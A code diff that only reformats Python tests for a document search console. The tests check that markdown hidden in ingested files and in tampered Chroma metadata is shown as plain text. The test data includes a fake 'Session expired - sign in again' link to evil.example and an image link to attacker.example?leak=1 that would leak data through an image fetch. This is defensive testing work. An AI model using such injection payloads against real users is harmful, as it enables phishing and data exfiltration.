@@ -56,8 +56,11 @@ def hostile(ctx):
     run_job(job, ctx=ctx)
     # Whoever reaches Chroma rewrites a chunk's metadata (no token on the local server).
     url = ctx.settings.chroma_url.rsplit(":", 1)
-    client = chromadb.HttpClient(host=url[0].split("//")[1], port=int(url[1]),
-                                 settings=chromadb.Settings(anonymized_telemetry=False))
+    client = chromadb.HttpClient(
+        host=url[0].split("//")[1],
+        port=int(url[1]),
+        settings=chromadb.Settings(anonymized_telemetry=False),
+    )
     coll = client.get_collection(collection(ctx))
     ids = ids_of_job(ctx, job)
     got = coll.get(ids=ids, include=["metadatas"])
@@ -83,8 +86,10 @@ def test_chroma_metadata_is_shown_as_text_in_search(ctx, hostile, console):  # n
         # dense ranking: its hits carry what Chroma holds (a hit the word index also finds shows
         # the job database's own name for the file)
         ranking = page.widget_id("selectbox", "Ranking")
-        hits = sock.run(page_hash=search_hash, widgets=[text(query, "harbour pilots"), text(ranking, "dense"),
-                                                        trigger(button)])
+        hits = sock.run(
+            page_hash=search_hash,
+            widgets=[text(query, "harbour pilots"), text(ranking, "dense"), trigger(button)],
+        )
     assert "Session expired" in hits.text, "search did not show the hit"
     assert not markdown_hazards(hits, "Session expired"), markdown_hazards(hits, "Session expired")
 
@@ -92,8 +97,10 @@ def test_chroma_metadata_is_shown_as_text_in_search(ctx, hostile, console):  # n
 def test_a_search_snippet_shows_the_documents_own_markup_as_text(ctx, console):  # noqa: F811
     # The snippet highlights matched words in bold; the document's own text must never become a link
     # or an image fetched by the browser of whoever searches.
-    body = (b"Harbour pilots board ships [Session expired - sign in again](https:evil.example) and "
-            b"![pix](https:attacker.example?leak=1) near the breakwater. ") * 20
+    body = (
+        b"Harbour pilots board ships [Session expired - sign in again](https:evil.example) and "
+        b"![pix](https:attacker.example?leak=1) near the breakwater. "
+    ) * 20
     job = ingest_bytes(ctx, body, filename="notes.txt", dataset="default").job_id
     run_job(job, ctx=ctx)
     proc = console(launcher="sluice")
@@ -101,6 +108,8 @@ def test_a_search_snippet_shows_the_documents_own_markup_as_text(ctx, console): 
         search_hash = sock.run().page_hash("search")
         page = sock.run(page_hash=search_hash)
         query, button = page.widget_id("text_input", "Query"), page.widget_id("button", "Search")
-        hits = sock.run(page_hash=search_hash, widgets=[text(query, "harbour pilots"), trigger(button)])
+        hits = sock.run(
+            page_hash=search_hash, widgets=[text(query, "harbour pilots"), trigger(button)]
+        )
     assert "Session expired" in hits.text, "search did not show the hit"
     assert not markdown_hazards(hits, "Session expired"), markdown_hazards(hits, "Session expired")
